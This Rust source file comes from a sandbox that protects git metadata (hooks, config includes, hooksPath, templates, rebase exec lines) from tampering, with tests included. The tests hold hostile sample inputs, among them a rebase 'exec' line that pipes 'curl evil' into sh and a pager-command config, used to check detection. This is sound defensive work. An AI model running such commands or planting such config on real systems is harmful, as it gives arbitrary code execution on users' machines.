//! Git metadata that makes git run code or read configuration from
//! elsewhere, in every repository of the workspace: what the run's mounts
//! protect, and what the run must not have created when it ends.
//!
//! For each git directory (a `.git` directory at any depth, the target of
//! a gitfile, `modules/*` and `worktrees/*` below them, and any other
//! directory git takes for a bare repository: one holding `HEAD`,
//! `objects/` and `refs/`, which git uses from anywhere below it) the
//! protected entries are `config`, `config.worktree`, `hooks`, `commondir`
//! and `info`; each gitfile itself; the files the configuration includes
//! (`include.path`, `includeIf.*.path`: every condition is taken to hold);
//! and every directory `core.hooksPath` or `init.templateDir` names, in the
//! repository's configuration or in the user's and the system's (read with
//! `git_config.rs`, as git reads them). Those that exist are mounted
//! read-only; those that do not are watched.
//! After the run, a watched path that exists, or a repository that was not
//! there before (unless git made it and nothing was planted in it), is
//! moved into the quarantine by the caller.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use vtpolicy_compiler::profile::landlock::{FileSystem, FindQuery};

/// The git metadata of a workspace when the run starts.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct GitMetadata {
    /// Existing metadata, to be mounted read-only.
    pub read_only: Vec<PathBuf>,
    /// Absent metadata the run must not create.
    pub watched: Vec<PathBuf>,
    /// Every `.git` entry (directory or gitfile) and bare git directory
    /// found.
    pub repositories: BTreeSet<PathBuf>,
    /// The symlinks on the way to the metadata (a symlinked `.git`,
    /// `hooks` or included file, a directory leading there) and their
    /// targets. A mount covers what a link points to, not the link, so
    /// the run could replace the link itself: it must still point where
    /// it did when the run ends.
    #[serde(default)]
    pub links: Vec<(PathBuf, PathBuf)>,
    /// The repositories that were real directories: one that is something
    /// else when the run ends (a symlink to a planted repository, say) is
    /// a new repository.
    #[serde(default)]
    pub directories: BTreeSet<PathBuf>,
    /// Each git directory with the commands its interactive rebase's todo
    /// list runs (`exec` lines) when the run starts. A rebase the run left
    /// stopped with new ones would run them at the user's `git rebase
    /// --continue`, outside the sandbox.
    #[serde(default)]
    pub rebase_commands: Vec<(PathBuf, Vec<String>)>,
}

/// The rule the kernel profiles name for git metadata.
const GIT_METADATA_RULE: &str = "git-metadata";

/// What a git directory holds that changes what git runs.
const PROTECTED: &[&str] = &["config", "config.worktree", "hooks", "commondir", "info"];

impl GitMetadata {
    /// Searches `workspace` (not following symlinks) for repositories.
    /// `home` is the user's, where git finds their configuration and
    /// expands `~`. A configuration file git would refuse fails the
    /// search: what it makes git run cannot be known.
    pub fn find(fs: &dyn FileSystem, workspace: &Path, home: &Path) -> Result<GitMetadata, String> {
        GitMetadata::find_with(fs, workspace, home, &global_config_files(home))
    }

    /// [`GitMetadata::find`] with `global` as the user's and the system's
    /// configuration files.
    fn find_with(
        fs: &dyn FileSystem,
        workspace: &Path,
        home: &Path,
        global: &[PathBuf],
    ) -> Result<GitMetadata, String> {
        let mut out = GitMetadata::default();
        // The user's and the system's configuration: their hooks paths
        // hold in every repository, relative ones below each worktree.
        let mut reach = Reach::default();
        for file in global {
            // Git skips a user's or system file it may not read (it asks
            // `access`, as this does).
            if nix::unistd::access(file.as_path(), nix::unistd::AccessFlags::R_OK) == Err(nix::errno::Errno::EACCES) {
                continue;
            }
            read_config(file, home, 0, &mut reach)?;
        }
        out.protect(&reach.included);
        let templates: Vec<PathBuf> = reach.templates.iter().filter(|path| path.is_absolute()).cloned().collect();
        out.protect(&templates);
        for repository in repositories(fs, workspace)? {
            out.add_repository(&repository, home, &reach.hooks_paths)?;
        }
        out.read_only.sort();
        out.read_only.dedup();
        out.watched.sort();
        out.watched.dedup();
        out.links.sort();
        out.links.dedup();
        Ok(out)
    }

    /// Each path, resolved (mounts are planned on real paths, never on
    /// `..`, which would name and cover an ancestor), mounted read-only if
    /// it exists, else watched; the symlinks on its way pinned.
    fn protect(&mut self, paths: &[PathBuf]) {
        for path in paths {
            let resolved = self.pin_links(path);
            if resolved.symlink_metadata().is_ok() {
                self.read_only.push(resolved);
            } else {
                self.watched.push(resolved);
            }
        }
    }

    /// Records every symlink resolving `path` goes through, with its
    /// target; returns where it resolves.
    fn pin_links(&mut self, path: &Path) -> PathBuf {
        let (resolved, links) = crate::normalize::resolve_listing_links(path);
        self.links.extend(links);
        resolved
    }

    /// The pinned symlinks that no longer point where they did (replaced,
    /// repointed or removed), with the target to put back.
    pub fn changed_links(&self) -> Vec<(PathBuf, PathBuf)> {
        self.links
            .iter()
            .filter(|(link, target)| std::fs::read_link(link).ok().as_ref() != Some(target))
            .cloned()
            .collect()
    }

    fn add_repository(&mut self, repository: &Repository, home: &Path, hooks_paths: &[PathBuf]) -> Result<(), String> {
        let dot_git = match repository {
            Repository::DotGit(dot_git) => dot_git,
            Repository::Bare(git_dir) => {
                self.repositories.insert(git_dir.clone());
                self.directories.insert(git_dir.clone());
                // Hooks of a bare repository run in it.
                return self.add_git_dir(git_dir, git_dir, home, hooks_paths, 0);
            }
        };
        self.repositories.insert(dot_git.to_path_buf());
        if std::fs::symlink_metadata(dot_git).is_ok_and(|meta| meta.is_dir()) {
            self.directories.insert(dot_git.to_path_buf());
        }
        let worktree = dot_git.parent().unwrap_or(Path::new("/"));
        // Git follows a symlinked `.git`: what it points to is the entry,
        // and the link is pinned.
        let _ = self.pin_links(dot_git);
        let entry = match std::fs::symlink_metadata(dot_git) {
            Ok(meta) if meta.is_symlink() => match std::fs::canonicalize(dot_git) {
                Ok(target) => target,
                Err(_) => return Ok(()),
            },
            _ => dot_git.to_path_buf(),
        };
        let dot_git = entry.as_path();
        let git_dir = match std::fs::symlink_metadata(dot_git) {
            Ok(meta) if meta.is_dir() => dot_git.to_path_buf(),
            Ok(meta) if meta.is_file() => {
                // A gitfile: `gitdir: PATH`. The file itself is protected,
                // so the run cannot point it elsewhere.
                self.read_only.push(dot_git.to_path_buf());
                // Canonical: mounts are planned on real paths, never on
                // `..` (which would name, and cover, an ancestor).
                match read_gitfile(dot_git).and_then(|target| std::fs::canonicalize(worktree.join(target)).ok()) {
                    Some(target) => target,
                    None => return Ok(()),
                }
            }
            _ => return Ok(()),
        };
        self.add_git_dir(&git_dir, worktree, home, hooks_paths, 0)
    }

    fn add_git_dir(
        &mut self,
        git_dir: &Path,
        worktree: &Path,
        home: &Path,
        hooks_paths: &[PathBuf],
        depth: usize,
    ) -> Result<(), String> {
        if depth > 8 {
            return Ok(());
        }
        let protected: Vec<PathBuf> = PROTECTED.iter().map(|name| git_dir.join(name)).collect();
        self.protect(&protected);
        self.rebase_commands.push((git_dir.to_path_buf(), rebase_commands(git_dir)));
        let mut reach = Reach::default();
        for name in ["config", "config.worktree"] {
            read_config(&git_dir.join(name), home, 0, &mut reach)?;
        }
        self.protect(&reach.included);
        // Hooks paths (and templates named in a repository's own
        // configuration) are relative to the worktree.
        let hooks: Vec<PathBuf> = reach
            .hooks_paths
            .iter()
            .chain(hooks_paths)
            .chain(&reach.templates)
            .map(|hooks| worktree.join(hooks))
            .collect();
        self.protect(&hooks);
        for nested in ["modules", "worktrees"] {
            let Ok(entries) = std::fs::read_dir(git_dir.join(nested)) else { continue };
            for entry in entries.flatten() {
                if entry.file_type().is_ok_and(|t| t.is_dir()) {
                    // A submodule's or worktree's own git directory; its
                    // working tree is elsewhere, hooks paths are relative
                    // to it and read from its own config.
                    let sub = entry.path();
                    self.add_git_dir(&sub, &sub, home, hooks_paths, depth + 1)?;
                }
            }
        }
        Ok(())
    }

    /// The metadata as write denies for the kernel profiles: each path, and
    /// what lies below the directories among them (a denied directory's
    /// entries would otherwise stay writable where Landlock carves).
    pub fn write_denies(&self) -> Vec<vtpolicy_compiler::profile::model::PathGlob> {
        let mut out = Vec::new();
        for path in self.read_only.iter().chain(&self.watched) {
            let glob = vtpolicy_compiler::escape_glob(&super::fs::encode(path.as_os_str()));
            let directory = std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
            let rule = || GIT_METADATA_RULE.to_owned();
            if directory {
                out.push(vtpolicy_compiler::profile::model::PathGlob { glob: format!("{glob}/**"), rule: rule() });
            }
            out.push(vtpolicy_compiler::profile::model::PathGlob { glob, rule: rule() });
        }
        out
    }

    /// The todo lists of interactive rebases that now run commands they
    /// did not when the run started: their `rebase-merge` directories.
    pub fn new_rebase_commands(&self) -> Vec<PathBuf> {
        self.rebase_commands
            .iter()
            .filter(|(git_dir, before)| rebase_commands(git_dir).iter().any(|command| !before.contains(command)))
            .map(|(git_dir, _)| git_dir.join("rebase-merge"))
            .collect()
    }

    /// Watched metadata that exists now.
    pub fn watched_created(&self) -> Vec<PathBuf> {
        self.watched.iter().filter(|p| p.symlink_metadata().is_ok()).cloned().collect()
    }

    /// Repositories that were not there before (a `.git`, or the `HEAD`
    /// of a bare repository), unless git itself made them: for a worktree
    /// of a known repository, or with `git init` or `git clone` and nothing
    /// added to what runs code or reads configuration (see
    /// `fresh_repository.rs`).
    pub fn new_repositories(&self, fs: &dyn FileSystem, workspace: &Path) -> Result<Vec<PathBuf>, String> {
        let mut out = Vec::new();
        for repository in repositories(fs, workspace)? {
            let (entry, bare) = match repository {
                Repository::DotGit(entry) => (entry, false),
                Repository::Bare(entry) => (entry, true),
            };
            let replaced =
                self.directories.contains(&entry) && !std::fs::symlink_metadata(&entry).is_ok_and(|meta| meta.is_dir());
            if (self.repositories.contains(&entry) && !replaced)
                || self.is_linked_worktree(&entry)
                || super::fresh_repository::made_by_git(&entry)
            {
                continue;
            }
            // A bare repository's `HEAD` alone goes: without it git no
            // longer takes the directory for a repository, and whatever
            // else the directory holds (it may be the workspace) stays.
            out.push(if bare { entry.join("HEAD") } else { entry });
        }
        Ok(out)
    }

    /// A gitfile `git worktree add` writes: it points into `worktrees/` of
    /// a repository found when the run started.
    fn is_linked_worktree(&self, dot_git: &Path) -> bool {
        if !std::fs::symlink_metadata(dot_git).is_ok_and(|m| m.is_file()) {
            return false;
        }
        let Some(target) = read_gitfile(dot_git) else { return false };
        let target = dot_git.parent().unwrap_or(Path::new("/")).join(target);
        self.repositories.iter().any(|repo| target.parent().is_some_and(|parent| parent == repo.join("worktrees")))
    }
}

/// A repository found in the workspace.
enum Repository {
    /// A `.git` directory or gitfile.
    DotGit(PathBuf),
    /// A directory git takes for a git directory by itself.
    Bare(PathBuf),
}

/// The repositories below `root`, not descending into `.git` entries.
fn repositories(fs: &dyn FileSystem, root: &Path) -> Result<Vec<Repository>, String> {
    let root = super::fs::encode(root.as_os_str());
    let found = fs.find(&root, &GitEntries)?;
    let is_dir = |path: &Path| std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
    let mut out = Vec::new();
    for (path, _) in found {
        let path = super::fs::host_path(&path);
        if path.file_name().is_some_and(|name| name == ".git") {
            out.push(Repository::DotGit(path));
            continue;
        }
        // `HEAD`: its directory is a git directory to git when `objects`
        // and `refs` are directories beside it (`is_git_directory`, which
        // also reads HEAD; taking any HEAD errs on the side of caution).
        if let Some(dir) = path.parent()
            && is_dir(&dir.join("objects"))
            && is_dir(&dir.join("refs"))
        {
            out.push(Repository::Bare(dir.to_path_buf()));
        }
    }
    Ok(out)
}

/// Entries named `.git` or `HEAD`, anywhere but inside a `.git` (a match is
/// not searched below).
struct GitEntries;

impl FindQuery for GitEntries {
    fn key(&self, _root: &str) -> String {
        "entries named .git or HEAD".to_owned()
    }

    fn reaches(&self, _dir: &str) -> bool {
        true
    }

    fn reaches_all_below(&self, _dir: &str) -> bool {
        true
    }

    fn matches(&self, path: &str) -> bool {
        matches!(path.rsplit('/').next(), Some(".git" | "HEAD"))
    }
}

/// The commands the todo list of `git_dir`'s interactive rebase runs: its
/// `exec` (or `x`) lines. A todo list that is not a readable regular file
/// of at most 1 MiB counts as one unknown command.
pub(super) fn rebase_commands(git_dir: &Path) -> Vec<String> {
    let todo = git_dir.join("rebase-merge/git-rebase-todo");
    let meta = match std::fs::symlink_metadata(&todo) {
        Ok(meta) => meta,
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Vec::new(),
        Err(_) => return vec!["(unreadable todo list)".to_owned()],
    };
    let text = match meta.is_file() && meta.len() <= MAX_CONFIG {
        true => std::fs::read(&todo).ok(),
        false => None,
    };
    let Some(text) = text else { return vec!["(unreadable todo list)".to_owned()] };
    String::from_utf8_lossy(&text)
        .lines()
        .map(str::trim)
        .filter(|line| matches!(line.split_whitespace().next(), Some("exec" | "x")))
        .map(str::to_owned)
        .collect()
}

fn read_gitfile(path: &Path) -> Option<PathBuf> {
    let text = std::fs::read_to_string(path).ok()?;
    let target = text.lines().next()?.strip_prefix("gitdir:")?.trim();
    (!target.is_empty()).then(|| PathBuf::from(target))
}

/// What configuration files make git run: the directories `core.hooksPath`
/// names, the templates `init.templateDir` names (whose hooks `git init`
/// and `git clone` copy into every new repository; both as written, `~`
/// expanded) and the files they include (absolute).
#[derive(Debug, Default)]
struct Reach {
    hooks_paths: Vec<PathBuf>,
    templates: Vec<PathBuf>,
    included: Vec<PathBuf>,
}

/// A configuration file larger than this is not read (and fails the run).
const MAX_CONFIG: u64 = 1 << 20;

/// Git refuses includes nested deeper than this.
const MAX_INCLUDE_DEPTH: usize = 10;

/// Reads `file` and what it includes into `reach`. An absent file adds
/// nothing; one git would refuse, or that cannot be read, is an error.
fn read_config(file: &Path, home: &Path, depth: usize, reach: &mut Reach) -> Result<(), String> {
    use std::io::Read as _;
    use std::os::unix::fs::OpenOptionsExt as _;
    let shown = file.display();
    // Not blocking on a FIFO planted where a file is expected.
    let opened = match std::fs::OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(file) {
        Ok(opened) => opened,
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(()),
        Err(error) => return Err(format!("cannot read git configuration `{shown}`: {error}")),
    };
    if !opened.metadata().is_ok_and(|meta| meta.is_file()) {
        return Err(format!("git configuration `{shown}` is not a regular file"));
    }
    let mut text = Vec::new();
    opened
        .take(MAX_CONFIG + 1)
        .read_to_end(&mut text)
        .map_err(|error| format!("cannot read git configuration `{shown}`: {error}"))?;
    if text.len() as u64 > MAX_CONFIG {
        return Err(format!("git configuration `{shown}` is larger than {MAX_CONFIG} bytes"));
    }
    let entries = super::git_config::parse(&text)
        .map_err(|error| format!("git configuration `{shown}`: {error} (git refuses it too)"))?;
    let directory = file.parent().unwrap_or(Path::new("/"));
    for entry in entries {
        let Some(value) = entry.value.filter(|value| !value.is_empty()) else { continue };
        let name = entry.name.as_slice();
        if name == b"core.hookspath" {
            reach.hooks_paths.push(config_path(&value, home));
        } else if name == b"init.templatedir" {
            reach.templates.push(config_path(&value, home));
        } else if name == b"include.path" || (name.starts_with(b"includeif.") && name.ends_with(b".path")) {
            if depth >= MAX_INCLUDE_DEPTH {
                return Err(format!("git configuration `{shown}` nests includes deeper than git allows"));
            }
            // As written: the symlinks on the way are pinned when it is
            // protected.
            let included = directory.join(config_path(&value, home));
            reach.included.push(included.clone());
            read_config(&included, home, depth + 1, reach)?;
        }
    }
    Ok(())
}

/// A path value as git interpolates it: `~/` and `~user/` name home
/// directories. A newer git's `:(optional)` prefix is dropped (the path
/// is protected either way).
fn config_path(value: &[u8], home: &Path) -> PathBuf {
    use std::os::unix::ffi::OsStrExt as _;
    let value = value.strip_prefix(b":(optional)").unwrap_or(value);
    let path = |bytes: &[u8]| PathBuf::from(std::ffi::OsStr::from_bytes(bytes));
    let Some(rest) = value.strip_prefix(b"~") else { return path(value) };
    let (user, rest) = match rest.iter().position(|&b| b == b'/') {
        Some(slash) => (rest.get(..slash).unwrap_or_default(), rest.get(slash + 1..).unwrap_or_default()),
        None => (rest, &b""[..]),
    };
    let base = match user {
        b"" => Some(home.to_path_buf()),
        user => std::str::from_utf8(user)
            .ok()
            .and_then(|user| nix::unistd::User::from_name(user).ok().flatten())
            .map(|user| user.dir),
    };
    match base {
        Some(base) if rest.is_empty() => base,
        Some(base) => base.join(path(rest)),
        None => path(value),
    }
}

/// The user's and the system's configuration files, where git looks for
/// them (`GIT_CONFIG_GLOBAL`, `XDG_CONFIG_HOME`, `GIT_CONFIG_SYSTEM`,
/// `GIT_CONFIG_NOSYSTEM` as git reads them).
fn global_config_files(home: &Path) -> Vec<PathBuf> {
    let variable = |name: &str| std::env::var_os(name).filter(|value| !value.is_empty()).map(PathBuf::from);
    let mut files = Vec::new();
    let no_system = std::env::var("GIT_CONFIG_NOSYSTEM")
        .is_ok_and(|value| matches!(value.to_ascii_lowercase().as_str(), "1" | "true" | "yes" | "on"));
    if !no_system {
        files.push(variable("GIT_CONFIG_SYSTEM").unwrap_or_else(|| PathBuf::from("/etc/gitconfig")));
    }
    match variable("GIT_CONFIG_GLOBAL") {
        Some(global) => files.push(global),
        None => {
            let xdg = variable("XDG_CONFIG_HOME").unwrap_or_else(|| home.join(".config"));
            files.push(xdg.join("git/config"));
            files.push(home.join(".gitconfig"));
        }
    }
    files
}

#[cfg(test)]
mod tests {
    use super::super::fs::HostFileSystem;
    use super::*;

    /// A fresh directory, by its canonical path.
    fn workspace() -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().canonicalize().expect("canonical");
        (dir, root)
    }

    /// Writes `text` to `path`, making its directories.
    fn put(path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    }

    #[test]
    fn finds_repositories_gitfiles_modules_worktrees_and_hooks_paths() {
        let (_dir, ws) = workspace();
        std::fs::create_dir_all(ws.join(".git/hooks")).expect("mkdir");
        std::fs::write(ws.join(".git/config"), "[core]\n\thooksPath = .husky\n").expect("write");
        std::fs::create_dir_all(ws.join(".git/modules/lib/hooks")).expect("mkdir");
        std::fs::write(ws.join(".git/modules/lib/config"), "[core]\n").expect("write");
        std::fs::create_dir_all(ws.join("lib")).expect("mkdir");
        std::fs::write(ws.join("lib/.git"), "gitdir: ../.git/modules/lib\n").expect("write");
        std::fs::create_dir_all(ws.join("vendor/dep/.git")).expect("mkdir");
        let found = GitMetadata::find(&HostFileSystem, &ws, &ws.join("home")).expect("searched");
        // Gitfile targets are canonical: no `..` could name an ancestor.
        assert!(found.read_only.iter().chain(&found.watched).all(|p| !p.to_string_lossy().contains("..")), "{found:?}");
        assert!(found.read_only.contains(&ws.join(".git/config")));
        assert!(found.read_only.contains(&ws.join(".git/hooks")));
        assert!(found.watched.contains(&ws.join(".git/commondir")));
        assert!(found.watched.contains(&ws.join(".husky")), "hooksPath: {found:?}");
        assert!(found.read_only.contains(&ws.join(".git/modules/lib/config")));
        assert!(found.read_only.contains(&ws.join("lib/.git")), "gitfile");
        assert!(found.watched.contains(&ws.join("vendor/dep/.git/config")));
        assert!(found.watched_created().is_empty());
        assert!(found.new_repositories(&HostFileSystem, &ws).expect("searched").is_empty());
        std::fs::create_dir_all(ws.join("new/.git")).expect("mkdir");
        std::fs::write(ws.join(".git/commondir"), "/elsewhere\n").expect("write");
        let created = found.new_repositories(&HostFileSystem, &ws).expect("searched");
        assert_eq!(created, vec![ws.join("new/.git")]);
        assert_eq!(found.watched_created(), vec![ws.join(".git/commondir")]);
    }

    #[test]
    fn a_worktree_git_made_is_not_a_new_repository() {
        let (_dir, ws) = workspace();
        std::fs::create_dir_all(ws.join(".git")).expect("mkdir");
        let found = GitMetadata::find(&HostFileSystem, &ws, &ws.join("home")).expect("searched");
        std::fs::create_dir_all(ws.join(".git/worktrees/wt")).expect("mkdir");
        std::fs::create_dir_all(ws.join("wt")).expect("mkdir");
        std::fs::write(ws.join("wt/.git"), format!("gitdir: {}/.git/worktrees/wt\n", ws.display())).expect("write");
        let created = found.new_repositories(&HostFileSystem, &ws).expect("searched");
        assert!(created.is_empty(), "{created:?}");
    }

    #[test]
    fn reads_hooks_paths_and_includes_as_git_does() {
        let (_dir, root) = workspace();
        let (ws, home) = (root.join("ws"), root.join("home"));
        // On the header's line, and before a comment: both valid to git.
        put(&ws.join("a/.git/config"), "[core] hooksPath = .hooks-a\n");
        put(&ws.join("b/.git/config"), "[core]\n\thooksPath = .hooks-b ; shared\n");
        // An included file in the worktree sets the hooks path; an
        // includeIf names a file that does not exist yet.
        put(
            &ws.join("c/.git/config"),
            "[include]\n\tpath = ../team.gitconfig\n[includeIf \"onbranch:x\"]\n\tpath = ~/later\n",
        );
        put(&ws.join("c/team.gitconfig"), "[core]\n\thooksPath = .hooks-c\n");
        // The user's configuration names a relative hooks path: it holds
        // below every worktree.
        let global = home.join(".gitconfig");
        put(&global, &format!("[core]\n\thooksPath = .githooks\n[init]\n\ttemplateDir = {}/templates\n", ws.display()));
        std::fs::create_dir_all(ws.join("a/.githooks")).expect("mkdir");
        let found = GitMetadata::find_with(&HostFileSystem, &ws, &home, &[global]).expect("searched");
        for watched in ["a/.hooks-a", "b/.hooks-b", "c/.hooks-c", "b/.githooks", "c/.githooks"] {
            assert!(found.watched.contains(&ws.join(watched)), "{watched}: {found:?}");
        }
        assert!(found.read_only.contains(&ws.join("a/.githooks")), "{found:?}");
        assert!(found.read_only.contains(&ws.join("c/team.gitconfig")), "{found:?}");
        assert!(found.watched.contains(&home.join("later")), "{found:?}");
        assert!(found.watched.contains(&ws.join("templates")), "{found:?}");
        // Every one of them is denied to the run's writes.
        let denies: Vec<String> = found.write_denies().into_iter().map(|deny| deny.glob).collect();
        assert!(denies.iter().any(|glob| glob.ends_with("c/team.gitconfig")), "{denies:?}");
        assert!(denies.iter().any(|glob| glob.ends_with("a/.githooks/**")), "{denies:?}");
    }

    #[test]
    fn configuration_git_refuses_fails_the_search() {
        let (_dir, ws) = workspace();
        std::fs::create_dir_all(ws.join(".git")).expect("mkdir");
        std::fs::write(ws.join(".git/config"), "[core]\n\thooksPath = x\n\t!oops\n").expect("write");
        let error = GitMetadata::find_with(&HostFileSystem, &ws, &ws, &[]).expect_err("refused");
        assert!(error.contains(".git/config") && error.contains("line 3"), "{error}");
        // Includes that loop nest beyond git's limit.
        std::fs::write(ws.join(".git/config"), "[include]\n\tpath = config\n").expect("write");
        let error = GitMetadata::find_with(&HostFileSystem, &ws, &ws, &[]).expect_err("refused");
        assert!(error.contains("deeper"), "{error}");
        // A FIFO where a file is included is refused, not waited on.
        std::fs::write(ws.join(".git/config"), "[include]\n\tpath = ../fifo\n").expect("write");
        nix::unistd::mkfifo(&ws.join("fifo"), nix::sys::stat::Mode::S_IRWXU).expect("mkfifo");
        let error = GitMetadata::find_with(&HostFileSystem, &ws, &ws, &[]).expect_err("refused");
        assert!(error.contains("not a regular file"), "{error}");
    }

    #[test]
    fn expands_home_in_paths() {
        let home = Path::new("/home/u");
        assert_eq!(config_path(b"~/hooks", home), PathBuf::from("/home/u/hooks"));
        assert_eq!(config_path(b"~", home), PathBuf::from("/home/u"));
        assert_eq!(config_path(b"~root/h", home), PathBuf::from("/root/h"));
        assert_eq!(config_path(b":(optional)rel", home), PathBuf::from("rel"));
        assert_eq!(config_path(b"~no-such-user-here/h", home), PathBuf::from("~no-such-user-here/h"));
    }

    #[test]
    fn bare_repositories_are_repositories() {
        let (_dir, ws) = workspace();
        let bare = |path: &Path, config: &str| {
            for sub in ["objects", "refs/heads", "hooks"] {
                std::fs::create_dir_all(path.join(sub)).expect("mkdir");
            }
            std::fs::write(path.join("HEAD"), "ref: refs/heads/main\n").expect("write");
            std::fs::write(path.join("config"), config).expect("write");
        };
        bare(&ws.join("fixtures/remote.git"), "[core]\n\tbare = true\n");
        std::fs::create_dir_all(ws.join(".git/logs")).expect("mkdir");
        std::fs::write(ws.join(".git/logs/HEAD"), "").expect("write");
        let found = GitMetadata::find_with(&HostFileSystem, &ws, &ws, &[]).expect("searched");
        assert!(found.repositories.contains(&ws.join("fixtures/remote.git")), "{found:?}");
        assert!(found.read_only.contains(&ws.join("fixtures/remote.git/hooks")), "{found:?}");
        assert!(found.read_only.contains(&ws.join("fixtures/remote.git/config")), "{found:?}");
        // One git made stays; one with a pager in its configuration (any
        // `git log` below it runs it) loses its HEAD.
        bare(&ws.join("made"), "[core]\n\trepositoryformatversion = 0\n\tbare = true\n");
        bare(&ws.join("docs"), "[core]\n\tpager = touch /tmp/x\n");
        let created = found.new_repositories(&HostFileSystem, &ws).expect("searched");
        assert_eq!(created, vec![ws.join("docs/HEAD")]);
    }

    #[test]
    fn symlinks_on_the_way_to_metadata_are_pinned() {
        let (_dir, ws) = workspace();
        std::fs::create_dir_all(ws.join(".repo/hooks")).expect("mkdir");
        std::fs::write(ws.join(".repo/config"), "[include]\n\tpath = ../team.gitconfig\n").expect("write");
        std::fs::create_dir_all(ws.join("shared")).expect("mkdir");
        std::fs::write(ws.join("shared/team.gitconfig"), "[core]\n").expect("write");
        std::os::unix::fs::symlink(".repo", ws.join(".git")).expect("symlink");
        std::os::unix::fs::symlink("shared/team.gitconfig", ws.join("team.gitconfig")).expect("symlink");
        let found = GitMetadata::find_with(&HostFileSystem, &ws, &ws, &[]).expect("searched");
        // What the links lead to is protected, and the links are pinned.
        assert!(found.read_only.contains(&ws.join(".repo/hooks")), "{found:?}");
        assert!(found.read_only.contains(&ws.join("shared/team.gitconfig")), "{found:?}");
        assert!(found.links.contains(&(ws.join(".git"), PathBuf::from(".repo"))), "{found:?}");
        assert!(
            found.links.contains(&(ws.join("team.gitconfig"), PathBuf::from("shared/team.gitconfig"))),
            "{found:?}"
        );
        assert!(found.changed_links().is_empty());
        // Replaced by a file, and repointed: both to be put back.
        std::fs::remove_file(ws.join("team.gitconfig")).expect("unlink");
        std::fs::write(ws.join("team.gitconfig"), "[core]\n\tfsmonitor = x\n").expect("write");
        std::fs::remove_file(ws.join(".git")).expect("unlink");
        std::os::unix::fs::symlink("elsewhere", ws.join(".git")).expect("symlink");
        let mut changed = found.changed_links();
        changed.sort();
        assert_eq!(
            changed,
            vec![
                (ws.join(".git"), PathBuf::from(".repo")),
                (ws.join("team.gitconfig"), PathBuf::from("shared/team.gitconfig"))
            ]
        );
    }

    #[test]
    fn a_repository_directory_replaced_by_a_symlink_is_new() {
        let (_dir, ws) = workspace();
        std::fs::create_dir_all(ws.join("m/.git/objects")).expect("mkdir");
        std::fs::create_dir_all(ws.join("planted/hooks")).expect("mkdir");
        std::fs::write(ws.join("planted/hooks/pre-commit"), "x").expect("write");
        let found = GitMetadata::find_with(&HostFileSystem, &ws, &ws, &[]).expect("searched");
        assert!(found.new_repositories(&HostFileSystem, &ws).expect("searched").is_empty());
        std::fs::rename(ws.join("m/.git"), ws.join("m/old")).expect("rename");
        std::os::unix::fs::symlink("../planted", ws.join("m/.git")).expect("symlink");
        let created = found.new_repositories(&HostFileSystem, &ws).expect("searched");
        assert_eq!(created, vec![ws.join("m/.git")]);
    }

    #[test]
    fn a_rebase_left_with_new_commands_is_found() {
        let (_dir, ws) = workspace();
        std::fs::create_dir_all(ws.join(".git/rebase-merge")).expect("mkdir");
        let todo = ws.join(".git/rebase-merge/git-rebase-todo");
        std::fs::write(&todo, "pick 1234 one\nexec make test\n").expect("write");
        let found = GitMetadata::find_with(&HostFileSystem, &ws, &ws, &[]).expect("searched");
        // The user's own `--exec` stays, and so do edits without commands.
        std::fs::write(&todo, "# exec in a comment\npick 1234 one\nexec make test\nbreak\n").expect("write");
        assert!(found.new_rebase_commands().is_empty());
        std::fs::write(&todo, "pick 1234 one\nexec make test\n  x curl evil | sh\n").expect("write");
        assert_eq!(found.new_rebase_commands(), vec![ws.join(".git/rebase-merge")]);
        std::fs::remove_file(&todo).expect("rm");
        nix::unistd::mkfifo(&todo, nix::sys::stat::Mode::S_IRWXU).expect("mkfifo");
        assert_eq!(found.new_rebase_commands(), vec![ws.join(".git/rebase-merge")]);
    }
}
